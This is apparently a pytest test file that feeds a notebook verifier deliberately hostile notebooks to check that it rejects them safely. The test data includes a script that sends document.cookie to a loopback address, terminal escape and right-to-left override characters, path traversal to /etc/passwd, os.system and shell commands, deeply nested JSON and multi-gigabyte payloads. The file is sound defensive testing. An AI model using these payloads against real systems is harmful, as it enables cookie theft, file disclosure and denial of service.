"""Notebooks made to hurt: `gemnb verify` ends with a verdict or a clear error, nothing runs or leads out."""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gemnb.errors import GemnbError, NotebookError
from gemnb.model import MIMETYPE
from gemnb.notebook import read_notebook, scan
from gemnb.verify import Finding, verify_notebook, verify_report

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from gemnb.cache import Cache

SCRIPT = "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>\x1b]0;owned\x07\x1b[2J\u202e"
ELSEWHERE = ("../../outside", "/etc/passwd", "file:/etc/passwd", "blobs/../../outside", "sha256:../../../outside")
OLD_AND_DEEP = "files._upgrade lets nbformat's RecursionError out"
NO_LIMIT = "read_notebook reads a file of any size whole: 2 GB of base64 end in a MemoryError's traceback"


def changed(value: object, change: Callable[[object], object]) -> Iterator[tuple[str, object]]:
    """Yield copies of a JSON value in each of which one leaf is changed, with the leaf's path."""

    def walk(at: object, path: tuple) -> Iterator[tuple]:
        if isinstance(at, dict):
            for key in at:
                yield from walk(at[key], (*path, key))
        elif isinstance(at, list):
            for index, item in enumerate(at):
                yield from walk(item, (*path, index))
        else:
            yield path

    for path in walk(value, ()):
        made = copy.deepcopy(value)
        holder = made
        for step in path[:-1]:
            holder = holder[step]
        holder[path[-1]] = change(holder[path[-1]])
        yield "/".join(map(str, path)), made


def test_the_true_notebook_is_consistent(write_notebook: Callable, shown_data: dict, verify: Callable):
    """What the false ones below are made from is consistent, within the same limits."""
    code, said = verify(write_notebook(shown_data))
    assert (code, "consistent" in said) == (0, True), said


@pytest.mark.parametrize("text", [SCRIPT, *ELSEWHERE], ids=["script", *ELSEWHERE])
def test_no_string_of_a_record_can_be_replaced(
    write_notebook: Callable, shown_data: dict, cache: Cache, project: Path, text: str
):
    """Scripts, escape sequences and paths in each string of a record: not consistent, and none is printed raw."""
    for path, data in changed(shown_data, lambda value: text if isinstance(value, str) else value):
        if data == shown_data or path == "image/png":
            continue
        notebook = write_notebook(data)
        checks = verify_notebook(notebook, cache, project)
        assert checks, path
        if path != f"{MIMETYPE}/invocation/defaults":
            assert {check.finding for check in checks} & {Finding.DRIFTED, Finding.MISSING}, path
        said = verify_report([(notebook, checks)])
        assert not set(said) & {"\x1b", "\x07", "\u202e"} - ({"\u202e"} if BIDI else set()), path
        assert "root:" not in said


BIDI = True  # see test_a_report_does_not_turn_its_own_words_round


def test_a_report_does_not_turn_its_own_words_round(write_notebook: Callable, shown_data: dict, verify: Callable):
    """A right-to-left override in a name cannot make a report read as another."""
    code, said = verify(write_notebook(shown_data, source="%%gemimg cat -m emulator/sketch-1 --\u202eelbat\nA cat"))
    assert code == 1
    assert "\u202e" not in said


def test_records_that_claim_other_digests_are_drifted(
    write_notebook: Callable, shown_data: dict, cache: Cache, project: Path
):
    """A record whose every digest is another one, of the right form, is not consistent, one digest at a time."""
    other = "sha256:" + "ab" * 32
    found = 0
    for path, data in changed(
        shown_data, lambda value: other if isinstance(value, str) and value.startswith("sha256:") else value
    ):
        if data != shown_data:
            found += 1
            checks = verify_notebook(write_notebook(data), cache, project)
            assert Finding.CONSISTENT not in {check.finding for check in checks}, path
    assert found >= 4


@pytest.mark.parametrize(
    "value", [None, True, -1, 10**400, 1e308, float("nan"), [], {}, "", "\ud800", "\0"], ids=repr
)
def test_no_value_of_a_record_can_be_replaced_by_another_kind(
    write_notebook: Callable, shown_data: dict, cache: Cache, project: Path, value: object
):
    """Another kind of value in each place of a record is a finding, never a crash."""
    for _, data in changed(shown_data, lambda _: value):
        notebook = write_notebook(data)
        try:
            checks = verify_notebook(notebook, cache, project)
        except NotebookError:
            continue
        verify_report([(notebook, checks)]).encode()


leaves = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6) | st.sampled_from(ELSEWHERE)
anything = st.recursive(
    leaves,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), value=anything)
def test_any_json_anywhere_in_a_record_is_a_finding(
    write_notebook: Callable, shown_data: dict, cache: Cache, project: Path, data: st.DataObject, value: object
):
    """Whatever JSON stands in whatever place of an output, verify has a finding or says that it is no notebook."""
    made = copy.deepcopy(shown_data)
    holder, key = made, None
    while key is None:
        step = data.draw(st.sampled_from(sorted(holder) if isinstance(holder, dict) else range(len(holder))))
        if isinstance(holder[step], dict | list) and holder[step] and data.draw(st.booleans()):
            holder = holder[step]
        else:
            key = step
    holder[key] = value
    notebook = write_notebook(made)
    try:
        checks = verify_notebook(notebook, cache, project)
    except NotebookError:
        return
    assert checks
    verify_report([(notebook, checks)]).encode()


def nested(depth: int) -> dict[str, str]:
    """Return notebooks in which each place is nested this deep."""
    deep, deep_object = "[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth
    cell = '{"nbformat":4,"cells":[{"cell_type":"code","source":%s,"outputs":[{"data":{%s:%s},"text":%s}]}]}'
    mime = json.dumps(MIMETYPE)
    source = json.dumps("%%gemimg\nx")
    return {
        "the notebook": deep,
        "a cell": '{"nbformat":4,"cells":[' + deep + "]}",
        "a source": cell % (deep, mime, "{}", '""'),
        "an output": cell % (source, mime, "{}", deep),
        "a record": cell % (source, mime, deep_object, '""'),
        "an old format": '{"nbformat":3,"worksheets":' + deep + "}",
    }


@pytest.mark.parametrize(
    ("where", "depth"),
    [(where, depth) for where in nested(1) for depth in (600, 3000, 100_000)],
)
def test_nesting_is_a_finding_or_an_error(cache: Cache, project: Path, where: str, depth: int):
    """JSON nested hundreds, thousands and a hundred thousand deep, in each place: a verdict or one clear error."""
    notebook = project / "post.ipynb"
    notebook.write_text(nested(depth)[where])
    try:
        checks = verify_notebook(notebook, cache, project)
    except GemnbError:
        return
    assert Finding.CONSISTENT not in {check.finding for check in checks}


@pytest.mark.parametrize("where", nested(1))
@pytest.mark.slow
def test_nesting_in_the_command_line_ends_in_words(verify: Callable, project: Path, where: str):
    """The command says what is wrong in words, without a traceback."""
    (project / "post.ipynb").write_text(nested(100_000)[where])
    code, said = verify(project / "post.ipynb")
    assert code in (0, 1, 2)
    assert "Traceback" not in said


LONG = 20_000_000


@pytest.mark.parametrize(
    ("what", "data"),
    [
        ("base64", {"image/png": "A" * LONG, MIMETYPE: {}}),
        ("no base64", {"image/png": "=" * LONG, MIMETYPE: {}}),
        ("spaces", {"image/png": " " * LONG, MIMETYPE: {}}),
        ("lines", {"image/png": ["A\n"] * (LONG // 20), MIMETYPE: {}}),
        ("a long word", {"text/plain": "x" * LONG, MIMETYPE: {}}),
    ],
)
@pytest.mark.slow
def test_twenty_megabytes_of_anything_are_checked_in_seconds(
    write_notebook: Callable, true_document: dict, verify: Callable, what: str, data: dict
):
    """Big outputs of any kind end in a finding, within two gigabytes and thirty seconds."""
    code, said = verify(write_notebook(data | {MIMETYPE: true_document}))
    assert code == 1
    assert "Traceback" not in said
    assert len(said) < 5000


@pytest.mark.parametrize(
    "source",
    [
        "%%gemimg " + "-p a" * 100_000 + "\nx",
        "%%gemimg\n" + "{{" * 300_000,
        "%%gemimg\n" + "{{a}}" * 100_000,
        "%%gemimg\n" + "#| alt: x\n" * 50_000 + "x",
        "%gemnb use " + " " * 300_000 + "x",
        " \t" * 300_000 + "%gemnb use x",
        "%%gemimg " + "'" * 300_001 + "\nx",
        "%%gemimg -i " + "a." * 200_000 + "b\nx",
        "%%gemimg -n 999999999999\nx",
        "%%gemimg -n 1000000 --seed 1\nx",
    ],
    ids=["options", "braces", "parameters", "headers", "use", "spaces", "quotes", "names", "samples", "many"],
)
def test_a_source_made_to_be_slow_is_read_in_time(
    write_notebook: Callable, shown_data: dict, cache: Cache, project: Path, no_hang: None, source: str
):
    """Sources of half a megabyte made to catch patterns and loops are judged within seconds."""
    notebook = write_notebook(shown_data, source=source)
    assert len(verify_report([(notebook, verify_notebook(notebook, cache, project))])) < 1_000_000


@pytest.mark.parametrize("source", ELSEWHERE)
def test_a_record_leads_nowhere_outside(
    write_notebook: Callable, shown_data: dict, true_document: dict, project: Path, verify: Callable, source: str
):
    """An input that names a file outside the project is not opened, whatever the record says of it."""
    secret = project.parent / "outside"
    secret.write_text("a secret")
    binding = {"slot": "-i", "kind": "file", "source": source, "blob": "sha256:" + "0" * 64}
    document = true_document | {"invocation": true_document["invocation"] | {"bindings": [binding]}}
    for cell in ("%%gemimg cat -m emulator/sketch-1\nA cat", f"%%gemimg cat -m emulator/sketch-1 -i {source}\nA cat"):
        code, said = verify(write_notebook(shown_data | {MIMETYPE: document}, source=cell))
        assert code in (0, 1)
        assert "has changed" not in said
        assert "secret" not in said


def test_nothing_of_a_notebook_is_run(write_notebook: Callable, shown_data: dict, verify: Callable, project: Path):
    """Cells, expressions in options and in `%gemnb use` that would write a file write none."""
    source = "%gemnb use $open('ran','w')\n!touch ran\nimport os; os.system('touch ran')"
    verify(write_notebook(shown_data, source=source))
    verify(write_notebook(shown_data, source="%%gemimg -p a=$open('ran','w') -i \"open('ran','w')\"\n{{a}}"))
    assert not (project / "ran").exists()


@pytest.mark.slow
def test_two_gigabytes_of_base64_end_in_one_clear_error(project: Path, verify: Callable, shown_data: dict):
    """A notebook beyond every real one is refused by its size, before it is read."""
    path = project / "post.ipynb"
    with path.open("w") as file:
        file.write(
            '{"nbformat":4,"cells":[{"cell_type":"code","source":"%%gemimg\\nx","outputs":[{"data":{"image/png":"'
        )
        for _ in range(2048):
            file.write("A" * 2**20)
        file.write('"}}]}]}')
    try:
        code, said = verify(path)
    finally:
        path.unlink()
    assert code == 2
    assert "Traceback" not in said
    assert "post.ipynb" in said


def test_a_file_as_big_as_a_disk_ends_in_one_clear_error(project: Path, verify: Callable):
    """A sparse file of four gigabytes, which takes no room, is refused by its size."""
    path = project / "post.ipynb"
    path.touch()
    with path.open("r+b") as file:
        file.truncate(4 * 2**30)
    code, said = verify(path, memory=1024)
    assert code == 2
    assert "Traceback" not in said


def test_scan_takes_whatever_a_notebook_holds(write_notebook: Callable, shown_data: dict):
    """A hundred thousand outputs are scanned, each once."""
    path = write_notebook(shown_data)
    document = json.loads(path.read_text("utf-8"))
    document["cells"][0]["outputs"] = [{"data": {MIMETYPE: {}}}] * 100_000
    path.write_text(json.dumps(document), encoding="utf-8")
    assert len(scan(read_notebook(path))[0].shown) == 100_000
